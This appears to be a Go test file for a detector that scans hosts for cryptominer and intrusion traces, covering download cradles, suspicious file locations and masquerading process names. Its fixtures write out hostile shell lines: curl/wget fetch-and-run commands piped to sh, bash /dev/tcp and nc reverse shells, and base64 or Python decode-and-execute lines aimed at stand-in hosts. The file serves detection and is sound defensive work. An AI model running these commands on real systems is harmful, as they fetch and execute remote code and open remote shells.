package detect

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/deminer/deminer"
	"github.com/deminer/deminer/internal/host/hosttest"
	"github.com/deminer/deminer/internal/match"
)

func TestCradles(t *testing.T) {
	for _, c := range []struct {
		text string
		want string // key, "" for none
	}{
		{"curl -fsSL http://198.51.100.7/x.sh | sh", "fetch-run-ip"},
		{"wget -q -O - http://198.51.100.7/x.sh | bash -sh", "fetch-run-ip"},
		{"bash -c \"$(curl -fsSL http://198.51.100.7/x)\"", "fetch-run-ip"},
		{"curl https://pastebin.com/raw/abc | bash", "fetch-run-paste"},
		{"(curl -s http://a.example/x||wget -qO- http://a.example/x)|sh", "double-fetch"},
		{"bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "reverse-shell"},
		{"nc -e /bin/sh 198.51.100.7 4444", "reverse-shell"},
		{"echo aGVsbG8=|base64 -d|sh", "decode-run"},
		{"python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://x').read())\"", "decode-run"},
		{"curl -fsS https://hc-ping.com/uuid > /dev/null", ""},
		{"curl -fsSL https://get.docker.com | sh", ""},
		{"wget -q -O - https://site/wp-cron.php", ""},
		{"curl http://127.0.0.1:8080/health | sh", ""},
		{"curl -s http://169.254.169.254/latest/user-data | bash", ""},
		{"echo hello | base64 -d > /tmp/x", ""},
		{"grep -r /dev/tcp /etc", ""},
	} {
		got := ""
		if r := cradlesIn(c.text); len(r) > 0 {
			got = r[0].key
		}
		if got != c.want {
			t.Errorf("%q: got %q, want %q", c.text, got, c.want)
		}
	}
}

func TestPlaces(t *testing.T) {
	for name, want := range map[string]bool{
		"/tmp/x": true, "/dev/shm/.x": true, "/usr/bin/.local/bin/top": true, "/var/tmp/a/b": true, "/home/u/.configrc7/a": true, "/opt/... /x": true, "/.redtail": true, "/mnt/-java": true,
		"/usr/bin/top": false, "/opt/sysetmd": false, "/home/u/.cargo/bin/rg": false, "/home/u/.local/bin/x": false, "/usr/local/bin/x": false, "/root/.nvm/v/node": false,
	} {
		if got := placeOf(name).odd(); got != want {
			t.Errorf("%s: odd = %v, want %v", name, got, want)
		}
	}
}

func TestBentNames(t *testing.T) {
	for name, want := range map[string]string{
		"sysetmd": "systemd", "systemd-resolvd": "systemd-resolve", "mysqI": "mysql", "display-managerd": "display-manager", "systemdd": "systemd",
		"systemd": "", "mysqld": "", "docker": "", "dockerd": "", "nginxd": "", "postgres": "", "backup": "", "systemd-resolved": "", "crond": "", "redis": "", "polkitd": "",
	} {
		if got := bent(name); (got == "") != (want == "") {
			t.Errorf("%s: got %q, want %q", name, got, want)
		}
	}
}

// TestSweepRemembers: a file the cache knows is not opened again, and a changed file has another key.
func TestSweepRemembers(t *testing.T) {
	h, err := hosttest.Parse([]byte("-- /tmp/x.sh --\n#!/bin/sh\ncurl http://198.51.100.7/x | sh\n"))
	if err != nil {
		t.Fatal(err)
	}
	c := &memory{kept: map[FileKey]Content{}}
	set, err := shippedRules()
	if err != nil {
		t.Fatal(err)
	}
	sweep := func() (int64, *Files) {
		p := &Pass{Snapshot: &h.Snapshot, FS: h.FS, Rules: set, Gap: func(deminer.Gap) {}}
		f := Sweep(context.Background(), p, SweepOptions{Cache: c})
		_, n := f.Looked()
		return n, f
	}
	first, a := sweep()
	again, b := sweep()
	if first == 0 || again != 0 {
		t.Errorf("bytes read: first %d, again %d; want some, then none", first, again)
	}
	if x, y := a.At("/tmp/x.sh"), b.At("/tmp/x.sh"); x == nil || y == nil || len(x.Content.Hits) == 0 || len(x.Content.Hits) != len(y.Content.Hits) {
		t.Errorf("first %+v, again %+v: want the same hits", x, y)
	}
	h.FS.Put("/tmp/x.sh", []byte("#!/bin/sh\nanother thing, longer than before, and harmless\n"))
	if n, _ := sweep(); n == 0 {
		t.Error("a changed file was not read again")
	}
}

type memory struct{ kept map[FileKey]Content }

func (m *memory) Get(k FileKey) (Content, bool) { c, ok := m.kept[k]; return c, ok }
func (m *memory) Put(k FileKey, c Content)      { m.kept[k] = c }

// TestSweepLeavesOut: what is no regular file, and what is sparse, is not read; deminer's own state is never looked at.
func TestSweepLeavesOut(t *testing.T) {
	h, err := hosttest.Parse([]byte("-- /var/lib/deminer/vault/x --\n#!/bin/sh\nstratum\n-- @attr --\n/tmp/pipe type=fifo\n/tmp/big size=10000000000\n/dev/shm/dev type=device\n"))
	if err != nil {
		t.Fatal(err)
	}
	var gaps []deminer.Gap
	p := &Pass{Snapshot: &h.Snapshot, FS: h.FS, Rules: new(match.Set), Gap: func(g deminer.Gap) { gaps = append(gaps, g) }}
	done := make(chan *Files)
	go func() { done <- Sweep(context.Background(), p, SweepOptions{Full: true}) }()
	select {
	case f := <-done:
		for _, found := range f.list {
			t.Errorf("looked at %s", found.Path)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the sweep hangs")
	}
	if len(gaps) != 1 || gaps[0].What != "/tmp/big" {
		t.Errorf("gaps %+v: want one, for the sparse file", gaps)
	}
}

// TestSweepStarted: what runs is read although the places used up all room, and although the place only glanced at it.
func TestSweepStarted(t *testing.T) {
	h, err := hosttest.Parse([]byte("-- /opt/app/tool --\n#!/bin/sh\ncurl http://198.51.100.7/x | sh\n-- @attr --\n/opt/app/tool mode=0755\n"))
	if err != nil {
		t.Fatal(err)
	}
	set, err := shippedRules()
	if err != nil {
		t.Fatal(err)
	}
	for _, room := range []int{1, 0} {
		early := &Pass{Snapshot: &deminer.Snapshot{}, FS: h.FS, Rules: set, Gap: func(deminer.Gap) {}}
		s := NewSweeper(early, SweepOptions{})
		s.left.Store(int64(room))
		s.Places(context.Background())
		if f := s.out.At("/opt/app/tool"); (f != nil) != (room > 0) || f != nil && len(f.Content.Hits) > 0 {
			t.Fatalf("room for %d: the places gave %+v, want a glance where there is room", room, f)
		}
		h.Snapshot.Processes = []deminer.Process{{ID: deminer.ProcID{PID: 77}, Exe: "/opt/app/tool"}}
		for i := range 200 { // enough that those who read and he who hands out work at the same time
			name := fmt.Sprintf("/srv/%d/run.sh", i)
			h.FS.Put(name, []byte("#!/bin/sh\nexit 0\n"))
			h.Snapshot.Processes = append(h.Snapshot.Processes, deminer.Process{ID: deminer.ProcID{PID: 100 + i}, Exe: name})
		}
		gaps := 0
		late := &Pass{Snapshot: &h.Snapshot, FS: h.FS, Rules: set, Gap: func(deminer.Gap) { gaps++ }}
		late.Prepare()
		if f := s.Started(context.Background(), late).At("/opt/app/tool"); f == nil || len(f.Content.Hits) == 0 || gaps != 1-room {
			t.Errorf("room for %d: %+v, %d gaps; want the running script read, and a gap where the places had no room", room, f, gaps)
		}
	}
}
